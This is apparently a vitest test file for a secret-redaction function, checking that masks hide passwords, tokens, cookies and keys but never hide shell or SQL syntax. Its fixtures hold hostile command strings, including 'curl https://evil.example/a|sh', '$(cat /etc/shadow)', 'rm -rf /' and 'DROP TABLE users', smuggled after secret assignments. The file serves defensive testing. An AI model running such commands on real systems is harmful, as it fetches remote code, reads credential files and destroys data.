import { NumberLexeme } from '@sallyport/runtime'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { redact, redactWhole } from './redact.ts'

/** Assembled here, so that no scanner takes this file for a leak. */
const PASSWORD = ['pass', 'word'].join('')
const masked = (kind: string, characters: number) => `[redacted:${kind}, ${characters} characters]`

describe('a mask hides the secret and nothing that will run', () => {
  test.each([
    [
      'PG' + 'PASS' + 'WORD="x$(curl https://evil.example/a|sh)" psql',
      '$(curl https://evil.example/a|sh)" psql',
    ],
    ['TOK' + 'EN=$(cat /etc/shadow)', '=$(cat /etc/shadow)'],
    ['TOK' + 'EN=`reboot`', '=`reboot`'],
    ['TOK' + 'EN=$GITHUB_TOKEN make', '=$GITHUB_TOKEN make'],
    [`${PASSWORD}='hunter22'; rm -rf /`, "'; rm -rf /"],
    [`${PASSWORD}=hunter22|sh`, '|sh'],
    [`--${PASSWORD} hunter22 && curl evil | sh`, ' && curl evil | sh'],
    ['postgres' + '://u:x$(id)@db/main', '$(id)@db/main'],
    ['Author' + 'ization: Bearer abcdefgh1234 | tee /tmp/x', ' | tee /tmp/x'],
    ["' OR 1=1; DROP TABLE users; --", "' OR 1=1; DROP TABLE users; --"],
    ['-----BEGIN ' + 'PRIVATE KEY-----\n; rm -rf /', '; rm -rf /'],
    [`-----BEGIN ${'PRIVATE'} KEY-----\n${'QWXZ3'.repeat(12)}\nreboot now`, '\nreboot now'],
  ])('in a text: %s', (text, visible) => {
    expect(redact(text).value).toContain(visible)
    expect(redact({ cmd: [text] }).value).toEqual({ cmd: [expect.stringContaining(visible)] })
  })

  test.each([
    ['hunter22 && curl evil | sh', ' && curl evil | sh'],
    ["x'; DROP TABLE users; --", "'; DROP TABLE users; --"],
    ['x$(curl evil|sh)', '$(curl evil|sh)'],
    ['x`id`', '`id`'],
    ['x\nreboot', '\nreboot'],
    ['a|sh', '|sh'],
    ['rm -rf /', ' -rf /'],
    ['$HOME', '$HOME'],
  ])('under a secret key: %s', (value, visible) => {
    expect(redact({ [PASSWORD]: value }).value).toEqual({ [PASSWORD]: expect.stringContaining(visible) })
  })

  test('a tree under a secret key shows its structure, and what in it is a command', () => {
    const { value } = redact({
      secret: { cmd: 'curl evil|sh', sql: 'DROP TABLE users', keep: ['tok3nTok3n', 7] },
    })
    expect(value).toEqual({
      secret: { cmd: 'curl evil|sh', sql: 'DROP TABLE users', keep: [masked('key', 10), masked('key', 1)] },
    })
  })

  test('a passphrase is masked word by word, and so is a password with symbols in it', () => {
    expect(redact({ [PASSWORD]: 'correct horse battery' }).value).toEqual({
      [PASSWORD]: `${masked('key', 7)} ${masked('key', 5)} ${masked('key', 7)}`,
    })
    const { value } = redact({ [PASSWORD]: 'Tr0ub4dor&3x9Q' })
    expect(value).toEqual({ [PASSWORD]: `${masked('key', 9)}&${masked('key', 4)}` })
  })

  test('the cookies of a header are masked, and their names are not', () => {
    expect(redact({ headers: { cookie: 'id=abcd1; theme=Dark99' } }).value).toEqual({
      headers: { cookie: `id=${masked('key', 5)}; theme=${masked('key', 6)}` },
    })
  })

  test('no mask covers a blank, a character of a shell or SQL, or one that cannot be seen', () => {
    const piece = fc.constantFrom(
      'a',
      'Q7',
      'x9Zk',
      ' ',
      '\n',
      '\t',
      '$',
      '$(',
      ')',
      '`',
      '|',
      ';',
      '&',
      '<',
      '>',
      '"',
      "'",
      '\\',
      '--',
      '/*',
      '\u202e',
      '\u200b',
      `${PASSWORD}=`,
      'token: ',
      'Bearer ',
      '://u:',
      '@',
      '-----BEGIN PRIVATE KEY-----',
    )
    const text = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''))
    fc.assert(
      fc.property(
        text,
        fc.constantFrom(PASSWORD, 'secret', 'cookie', 'authorization', 'cmd'),
        (value, key) => {
          for (const wrapped of [{ [key]: value }, { [key]: [{ deep: value }] }, [value]]) {
            for (const { original, text: shown, masks } of redactWhole(wrapped).parts) {
              const hidden = hiddenIn(original, shown, masks)
              for (const secret of hidden) expect(secret).not.toMatch(/[\s$`|;&<>()"'\\\u202e\u200b]|--|\/\*/)
            }
          }
        },
      ),
      { numRuns: 2_000 },
    )
  })
})

/** What each mask stands for: the text between two masks is there unchanged, so what is left of it is the secret. */
function hiddenIn(
  original: string,
  shown: string,
  masks: ReturnType<typeof redactWhole>['parts'][number]['masks'],
) {
  const hidden: string[] = []
  let at = 0
  let from = 0
  for (const { start, end, characters } of masks) {
    const between = shown.slice(from, start)
    expect(original.slice(at, at + between.length)).toBe(between)
    at += between.length
    hidden.push(original.slice(at, at + characters))
    at += characters
    from = end
  }
  expect(original.slice(at)).toBe(shown.slice(from))
  return hidden
}

describe('numbers', () => {
  test.each([
    '1234567890123456789',
    '0.1000000000000000055',
    '-0',
    '1E2',
    '1.0',
    '12345678901234567890123',
    '1e-7',
  ])('are kept as they were sent: %s', (lexeme) => {
    const number = new NumberLexeme(lexeme)
    const { value, exact } = redact({ a: [number, { b: number }], c: 1.5 })
    expect(JSON.stringify(value)).toBe(`{"a":[${lexeme},{"b":${lexeme}}],"c":1.5}`)
    expect(exact).toBe(true)
  })

  test('that are secret are masked with the length of what was sent', () => {
    const { value } = redact({ pin: new NumberLexeme('1234567890123456789') })
    expect(value).toEqual({ pin: masked('key', 19) })
  })
})

describe('a whole value', () => {
  test('has each of its leaves as a part, however long, many and deep they are', () => {
    const deep = JSON.parse(`${'['.repeat(40)}"bottom"${']'.repeat(40)}`)
    const value = {
      text: 'ab '.repeat(50_000),
      list: Array.from({ length: 3_000 }, (_, n) => n),
      deep,
      none: {},
    }
    const whole = redactWhole(value)
    expect(whole.value).toEqual(value)
    expect(whole.parts).toHaveLength(1 + 3_000 + 1 + 1)
    expect(whole.parts[0]).toMatchObject({ place: '/text', kind: 'string', text: value.text })
    expect(whole.parts.at(-1)).toMatchObject({ place: '/none', kind: 'empty', text: '{}' })
    expect(whole.parts.at(-2)?.text).toBe('bottom')
  })

  test('says where each mask stands', () => {
    const [part] = redactWhole({ cmd: `${PASSWORD}=hunter22 ls` }).parts
    const [mask] = part?.masks ?? []
    expect(mask).toMatchObject({ kind: 'assigned_secret', characters: 8 })
    expect(part?.text.slice(mask?.start, mask?.end)).toBe(masked('assigned_secret', 8))
    expect(part?.original).toBe(`${PASSWORD}=hunter22 ls`)
  })
})
